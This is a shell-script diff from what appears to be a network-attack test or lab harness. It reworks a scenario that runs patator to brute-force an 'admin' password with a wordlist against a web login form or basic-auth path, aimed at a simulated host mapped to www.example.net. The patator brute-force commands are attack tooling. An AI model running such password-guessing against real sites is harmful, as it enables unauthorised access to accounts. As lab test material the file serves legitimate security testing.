@@ -16,11 +16,12 @@ scenario() {
 	_kind=$(choose form basic)
 	setting options "$_kind -t $_tasks"
 	if [ "$_kind" = form ]; then
-		attack v c tcp 80 -- timeout 50 patator http_fuzz "url=http://$(addr c)/form/login" \
-			method=POST body='user=admin&pass=FILE0' "0=$work/words" -t "$_tasks" \
-			-x ignore:fgrep='Login failed'
+		set -- url=http://www.example.net/form/login method=POST \
+			body='user=admin&pass=FILE0' -x ignore:fgrep='Login failed'
 	else
-		attack v c tcp 80 -- timeout 50 patator http_fuzz "url=http://$(addr c)/private/" \
-			user_pass=admin:FILE0 "0=$work/words" -t "$_tasks" -x ignore:code=401
+		set -- url=http://www.example.net/private/ user_pass=admin:FILE0 -x ignore:code=401
 	fi
+	# It takes the end of its input for a key and prints without end.
+	sleep 60 | attack v c tcp 80 -- timeout 50 patator http_fuzz \
+		"resolve=www.example.net:$(addr c)" "$@" "0=$work/words" -t "$_tasks"
 }
